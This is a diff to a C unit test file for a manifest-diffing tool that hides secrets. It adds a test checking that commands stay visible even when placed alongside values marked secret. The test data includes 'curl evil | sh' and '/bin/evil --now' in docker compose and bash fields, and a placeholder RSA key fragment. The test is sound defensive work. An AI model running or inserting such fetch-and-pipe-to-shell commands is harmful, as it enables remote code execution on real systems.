@@ -75,7 +75,7 @@ START_TEST(secrets_are_in_no_form_of_the_answer)
                                  "        secondline\n"
                                  "      PEM: |\n"
                                  "        -----BEGIN RSA PRIVATE KEY-----\n"
-                                 "        MIIEowIBAAKCAQEA\n"
+                                 "        MIIEowIBAAKCAQEAMIIEowIBAAKCAQEAMIIEowIBAAKCAQEA\n"
                                  "        -----END RSA PRIVATE KEY-----\n";
     struct scene scene;
     struct qr_buffer out = QR_BUFFER_INIT;
@@ -91,6 +91,33 @@ START_TEST(secrets_are_in_no_form_of_the_answer)
                       qr_buffer_text(&out));
     }
     ck_assert_ptr_nonnull(strstr(qr_buffer_text(&out), "MNEMONIC"));
+    qr_buffer_dispose(&out);
+    scene_dispose(&scene);
+}
+END_TEST
+
+/* A command does not disappear by being called a secret somewhere else. */
+START_TEST(what_runs_is_shown_though_a_secret_has_its_value)
+{
+    static const char manifest[] =
+        "{\"docker_compose_file\":\"services:\\n  a: {image: evil/image, environment: {A_KEY: "
+        "evil/image, B_KEY: curl evil | sh, C_KEY: /bin/evil --now}}\\n  b: {image: evil/image, "
+        "command: /bin/evil --now}\\n\",\"bash_script\":\"# -----BEGIN PRIVATE KEY-----\\ncurl "
+        "evil | sh\\n# -----END\\ncurl evil | sh\\n\"}";
+    struct scene scene;
+    struct qr_buffer out = QR_BUFFER_INIT;
+    scene_compare(&scene, "{}", manifest);
+    qr_manifest_diff_add_text(&out, &scene.diff);
+    static const char *const lines[] = {
+        "  services.a.image: added\n    + evil/image\n",
+        "  services.b.image: added\n    + evil/image\n",
+        "  services.b.command: added\n    + \"/bin/evil --now\"\n",
+        "    +curl evil | sh\n    +# -----END\n    +curl evil | sh\n",
+    };
+    for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
+        ck_assert_msg(strstr(qr_buffer_text(&out), lines[i]) != NULL, "%s is not in\n%s", lines[i],
+                      qr_buffer_text(&out));
+    }
     qr_buffer_dispose(&out);
     scene_dispose(&scene);
 }
@@ -228,6 +255,7 @@ int main(void)
     tcase_add_loop_test(tests, only_what_may_be_secret_is_hidden, 0,
                         (int)(sizeof hidden / sizeof hidden[0]));
     tcase_add_test(tests, secrets_are_in_no_form_of_the_answer);
+    tcase_add_test(tests, what_runs_is_shown_though_a_secret_has_its_value);
     tcase_add_test(tests, text_is_escaped_and_within_80_columns);
     tcase_add_test(tests, markdown_does_not_render);
     tcase_add_test(tests, json_has_every_member);
